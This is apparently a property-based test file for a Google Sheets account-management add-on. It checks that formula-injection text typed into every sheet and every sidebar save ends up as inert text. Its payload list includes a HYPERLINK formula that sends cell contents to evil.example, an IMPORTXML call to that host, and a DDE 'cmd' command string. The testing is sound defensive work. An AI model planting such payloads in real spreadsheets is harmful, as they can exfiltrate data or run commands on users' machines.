// Hostile text through every writer (issue 12, A.2): text that would be a formula (leading =,
// +, -, @; a tab or CR before =; full-width ＝; '=) typed by users into any column of any sheet,
// into date and number columns, into Settings, into another manager's workbook, and sent by the
// sidebar, goes through the check, onEdit, the dashboard, Check access, Protect dossiers, the
// sidebar's saves and Change history, Split by manager, Team overview and the KAM log. Under each
// answer the emulator can play for plain-text cells, no spreadsheet ends with a formula KAM did
// not write, and nobody reads a stray apostrophe.
import fc from 'fast-check';
import type { Emulator, PlainTextAnswer } from '../../../dev/emulator';
import type { Result } from '../../../src/dossier/types';
import { displayedCells, headerOf, liveFormulas, typeRow } from '../../helpers/cells';
import { demoWorkbook } from '../../helpers/demo-workbook';

const PREFIXES = ['=', '+', '-', '@', '\t=', '\r=', '＝', "'=", ' =', '\u200b='];
const BODIES = [
  'HYPERLINK("http://evil.example/?"&A1,"Open")',
  "cmd|' /C calc'!A0",
  'IMPORTXML("http://evil.example","//a")',
  '1+1',
  'SUM(A1:A9)',
];

const ANSWERS: PlainTextAnswer[] = [
  { formula: 'text', apostrophe: 'kept' },
  { formula: 'text', apostrophe: 'stripped' },
  { formula: 'formula', apostrophe: 'kept' },
  { formula: 'formula', apostrophe: 'stripped' },
];

/**
 * One payload per prefix, rotated so that each source gets a different one in each run, and
 * numbered so that no payload is another behind an apostrophe ("'=x" is not "'" + "=x").
 */
const payloadSets = fc
  .tuple(fc.constantFrom(...BODIES), fc.nat(PREFIXES.length - 1), fc.string({ maxLength: 4 }))
  .map(([body, turn, tail]) =>
    PREFIXES.map((_, i) => `${PREFIXES[(i + turn) % PREFIXES.length]}${body}${tail}#${i}`),
  );

/** Hostile rows typed into every sheet: one account whose every cell a user filled with payloads. */
function plantInWorkbook(emu: Emulator, p: (i: number) => string, manager: string): string {
  const id = p(0);
  const row = (sheet: string, fixed: Record<string, string | number>) => {
    const header = headerOf(emu, sheet);
    const at = emu.spreadsheet.getSheetByName(sheet)!.getLastRow() + 1;
    typeRow(
      emu,
      sheet,
      at,
      header.map((h, c) => fixed[h] ?? p(c + at)),
    );
  };
  emu.spreadsheet.rename(p(1));
  row('Accounts', { 'Account ID': id, Client: p(2), 'Manager (e-mail)': manager });
  row('Revenue', { Client: p(2), Revenue: 900_000 });
  row('Revenue', { Client: 'Text revenue', Revenue: p(3) });
  for (const sheet of ['Dossier', 'Contacts', 'Reviews', 'Plan', 'Competitors'])
    row(sheet, { 'Account ID': id });
  row('Decision group', {
    'Account ID': id,
    Role: 'Decision maker',
    Attitude: 'Opponent',
    Influence: 'High',
    'Last contact': '',
  });
  row('Settings', {});
  emu.edit('Settings!B5', `'${p(9)}`);
  return id;
}

/** The sidebar's saves on the hostile account, every text field a payload. */
function saveFromSidebar(emu: Emulator, id: string, p: (i: number) => string): void {
  const loaded = emu.scriptRun('kamLoadDossier', id) as Result;
  if (!loaded.ok) throw new Error(loaded.message);
  const fields = loaded.state.fields;
  // Every free-text field; a field picked from the account's own list (Reports to names a
  // person of the group) takes no free text, so it is left out.
  const texts = (keys: { key: string; type: string; pick?: string }[]) =>
    Object.fromEntries(
      keys
        .filter((f) => (f.type === 'text' || f.type === 'longText') && f.pick !== 'people')
        .map((f, i) => [f.key, p(i)]),
    );
  const answers = [
    emu.scriptRun('kamSaveDossier', {
      accountId: id,
      key: loaded.state.account!.dossierKey,
      values: texts([...fields.general, ...fields.ourView]),
    }),
    emu.scriptRun('kamLogContact', {
      accountId: id,
      values: {
        date: loaded.state.today,
        ourPerson: 'manager@example.com',
        channel: 'email',
        outcome: 'positive',
        ...texts(fields.contacts),
      },
      confirmPause: false,
    }),
    emu.scriptRun('kamSaveRow', {
      accountId: id,
      sheet: 'decisionGroup',
      key: null,
      values: { role: 'supporter', ...texts(fields.decisionGroup) },
    }),
    emu.scriptRun('kamMarkReviewed', { accountId: id, note: p(5) }),
  ] as Result[];
  for (const answer of answers) if (!answer.ok) throw new Error(answer.message);
}

/** Another manager types payloads into their own split workbook, which Team overview reads. */
function plantInSplit(emu: Emulator, p: (i: number) => string): void {
  const portfolio = emu.spreadsheet.getSheetByName('Portfolio')!.getDataRange().getValues();
  const link = String(portfolio[1][3]);
  const split = emu.spreadsheetById(/\/d\/([^/]+)/.exec(link)![1]);
  const accounts = split.getSheetByName('Accounts')!;
  const at = accounts.getLastRow() + 1;
  const cell = accounts.getRange(at, 1, 1, 4);
  cell.setNumberFormat('General');
  cell.setValues([[`'${p(7)}`, `'${p(8)}`, '', 'laura.stone@example.com']]);
}

describe('hostile text through every writer', () => {
  it.each(ANSWERS)(
    'leaves no live formula and no stray apostrophe (plain-text cells: $formula, $apostrophe)',
    (answer) => {
      fc.assert(
        fc.property(payloadSets, (payloads) => {
          const p = (i: number) => payloads[i % payloads.length];
          const emu = demoWorkbook();
          emu.setPlainText(answer);
          emu.openAddon();
          const id = plantInWorkbook(emu, p, `${p(4).replace(/[\s@\u200b]/g, '')}m@evil.com`);
          emu.spreadsheet.addEditor(`${p(6).replace(/[\s@\u200b]/g, '')}x@evil.com`);

          for (const item of ['Run checks now', 'Refresh dashboard', 'Check access'])
            emu.clickMenu(item);
          saveFromSidebar(emu, id, p);
          emu.clickMenu('Protect dossiers');
          emu.clickMenu('Split by manager');
          plantInSplit(emu, p);
          emu.clickMenu('Team overview');

          expect(liveFormulas(emu)).toEqual([]);
          const shown = displayedCells(emu);
          const stray = shown.filter((cell) => payloads.some((q) => cell.text.includes(`'${q}`)));
          expect(stray).toEqual([]);
          const where = (text: string) =>
            new Set(
              shown.filter((cell) => cell.text.trim() === text.trim()).map((cell) => cell.sheet),
            );
          expect([...where(p(2))]).toEqual(
            expect.arrayContaining(['KAM dashboard', 'KAM team overview', 'Accounts']),
          );
          expect([...where(id)]).toEqual(
            expect.arrayContaining(['Change history', 'Contacts', 'KAM team overview']),
          );
          expect([...where(p(7))]).toEqual(expect.arrayContaining(['KAM team overview']));
        }),
        { numRuns: 1 },
      );
    },
  );
});
